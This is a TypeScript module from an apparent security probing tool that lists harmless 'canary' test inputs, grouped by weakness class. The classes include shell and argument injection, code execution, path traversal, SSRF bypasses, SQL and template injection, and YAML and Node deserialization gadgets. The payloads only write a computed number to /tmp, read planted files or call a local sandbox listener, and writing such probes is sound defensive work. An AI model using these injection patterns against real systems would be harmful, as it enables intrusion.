import type { EvidenceItem } from '../../domain/evidence.ts';
import { ALIKE, BESIDE } from '../prepare/served.ts';
import { PUBLIC_NAME } from '../sandbox/detect.ts';

/**
 * What is put into a parameter to see whether a weakness holds: data by weakness, harmless by construction. Each writes a
 * number into a throw-away folder, asks a listener inside the sandbox, or reads a file that was laid there for it.
 *
 * `{t}` is a token of this try, `{a}` and `{b}` are two numbers whose product is in no payload, `{port}` is the listener's.
 */
export type Canary = {
  /** The way it goes in, also in words: `absolute path`. */
  id: string;
  value: string;
  effect: 'file' | 'product' | 'secret' | 'request' | 'outside' | 'stack' | 'changed';
};

/** A file that only a program of ours would have written: it holds a product that had to be computed. */
export const CANARY_FILE = '/tmp/canary-{t}';

const shell = 'echo $(({a}*{b})) > /tmp/canary-{t}';
const js = "require('fs').writeFileSync('/tmp/canary-{t}',String({a}*{b}))";
const modern = "process.getBuiltinModule('fs').writeFileSync('/tmp/canary-{t}',String({a}*{b}))";
const py = "__import__('pathlib').Path('/tmp/canary-{t}').write_text(str({a}*{b}))";

const file = (id: string, value: string): Canary => ({ id, value, effect: 'file' });
const product = (id: string, value: string): Canary => ({ id, value, effect: 'product' });
const secret = (id: string, value: string): Canary => ({ id, value, effect: 'secret' });
const outside = (id: string, value: string): Canary => ({ id, value, effect: 'outside' });
const request = (id: string, value: string): Canary => ({ id, value, effect: 'request' });

export const CANARIES: Readonly<Partial<Record<EvidenceItem['class'], readonly Canary[]>>> = {
  'command-injection': [
    file('next-command', `example; ${shell} #`),
    file('substitution', `example$(${shell})`),
    file('in-double-quotes', `example"; ${shell}; echo "`),
    file('in-single-quotes', `example'; ${shell}; echo '`),
    file('pipe', `example | ${shell}`),
    file('on-success', `. && ${shell}`),
    file('new-line', `example\n${shell}\n`),
    file('backticks', `\`${shell}\``),
    file('whole', shell),
  ],
  'argument-injection': [
    file('output-option', '--output=/tmp/canary-{t}'),
    file('output-short', '-o/tmp/canary-{t}'),
    file('checkpoint', '--checkpoint-action=exec=sh -c "echo > /tmp/canary-{t}"'),
    file('upload-pack', '--upload-pack=echo > /tmp/canary-{t};'),
    file('log-file', '--log-file=/tmp/canary-{t}'),
  ],
  'code-execution': [
    product('expression', '{a}*{b}'),
    file('node-require', js),
    file('node-builtin', modern),
    file('python', py),
    file('in-quotes', `');${js};('`),
    product('print', 'print({a}*{b})'),
    product('return', 'return {a}*{b}'),
    file('shell', shell),
  ],
  'path-traversal': [
    secret('folder-beside', BESIDE),
    secret('folder-beside-by-dots', '../beside'),
    secret('absolute-path', `${BESIDE}/secret-{t}.txt`),
    secret('dots', '../beside/secret-{t}.txt'),
    secret('dots-behind-what-is-served', `/data/root/../beside/secret-{t}.txt`),
    secret('folder-of-a-like-name', '../root-private/secret-{t}.txt'),
    secret('folder-of-a-like-name-absolute', `${ALIKE}/secret-{t}.txt`),
    secret('dots-to-the-root', '../../../../../../data/beside/secret-{t}.txt'),
    secret('link-that-leads-out', 'link-{t}/secret-{t}.txt'),
    secret('link-that-leads-out-absolute', '/data/root/link-{t}/secret-{t}.txt'),
    secret('file-address', `file://${BESIDE}/secret-{t}.txt`),
    secret('dots-encoded', '..%2fbeside%2fsecret-{t}.txt'),
    secret('dots-doubled', '....//beside/secret-{t}.txt'),
    outside('writing-by-dots', '../beside/new-{t}.txt'),
    outside('writing-absolute', `${BESIDE}/new-{t}.txt`),
    outside('writing-to-a-like-name', '../root-private/new-{t}.txt'),
  ],
  ssrf: [
    request('address', 'http://127.0.0.1:{port}/{t}'),
    request('name-of-this-machine', 'http://localhost:{port}/{t}'),
    request('address-as-a-number', 'http://2130706433:{port}/{t}'),
    request('address-in-ipv6', 'http://[::ffff:127.0.0.1]:{port}/{t}'),
    request('user-before-the-address', 'http://example.org@127.0.0.1:{port}/{t}'),
    request('without-a-scheme', '127.0.0.1:{port}'),
    // A guard that reads texts alone sees neither where a name leads nor where an answer sends on to.
    request('name-that-leads-there', `http://${PUBLIC_NAME}:{port}/{t}`),
    request('redirect', `http://${PUBLIC_NAME}:{port}/to/{t}`),
  ],
  'sql-injection': [
    product('union', "x' UNION SELECT {a}*{b} -- "),
    // Of several rows some servers hand on the first alone.
    product('union-first', "x' UNION SELECT {a}*{b} ORDER BY 1 DESC -- "),
    product('union-two', "x' UNION SELECT {a}*{b}, 2 -- "),
    product('union-three', "x' UNION SELECT {a}*{b}, 2, 3 -- "),
    product('number', '0 UNION SELECT {a}*{b} -- '),
    product('statement', 'SELECT {a}*{b}'),
  ],
  'template-injection': [
    product('braces', '{{{a}*{b}}}'.replace('{{{a}*{b}}}', '{{ {a}*{b} }}')),
    product('dollar', '${{a}*{b}}'),
    product('percent', '<%= {a}*{b} %>'),
    product('hash', '#{{a}*{b}}'),
  ],
  deserialization: [
    file('yaml-python', `!!python/object/apply:os.system ["${shell}"]`),
    file('yaml-open', '!!python/object/apply:builtins.open ["/tmp/canary-{t}", "w"]'),
    file('node-function', `{"x":"_$$ND_FUNC$$_function(){${js}}()"}`),
  ],
  'information-disclosure': [
    { id: 'not-there', value: 'no-such-thing-{t}', effect: 'stack' },
    { id: 'empty', value: '', effect: 'stack' },
    { id: 'nul', value: '\u0000', effect: 'stack' },
  ],
  'annotation-mismatch': [
    { id: 'served-file', value: 'canary-{t}.md', effect: 'changed' },
    { id: 'served-file-absolute', value: '/data/root/canary-{t}.md', effect: 'changed' },
    { id: 'new-name', value: 'made-{t}.md', effect: 'changed' },
  ],
};

/** Why a weakness is not tried by calls, where none shows it. */
export const NOT_BY_CALLS: Readonly<Partial<Record<EvidenceItem['class'], string>>> = {
  'dns-rebinding': 'it is about HTTP: mcp-audit probe --url asks with a foreign Host and Origin (T8, T10)',
  cors: 'it is about HTTP: mcp-audit probe --url asks with a foreign Origin (T8)',
  'missing-auth': 'it is about HTTP: mcp-audit probe --url asks without a token (T11)',
  session: 'it is about HTTP: mcp-audit probe --url looks at session ids (T27 to T29)',
  csrf: 'it needs a browser',
  oauth: 'it needs an account at an authorization server',
  'broken-authorization': 'it needs two accounts',
  tls: 'it needs a network',
  'prompt-injection': 'it needs a model that reads the answer',
  redos: 'it would burden the server',
  'resource-limit': 'it would burden the server',
};

export const filled = (text: string, v: Readonly<Record<string, string>>): string =>
  text.replace(/\{(t|a|b|port)\}/g, (_, k: string) => v[k] ?? '');
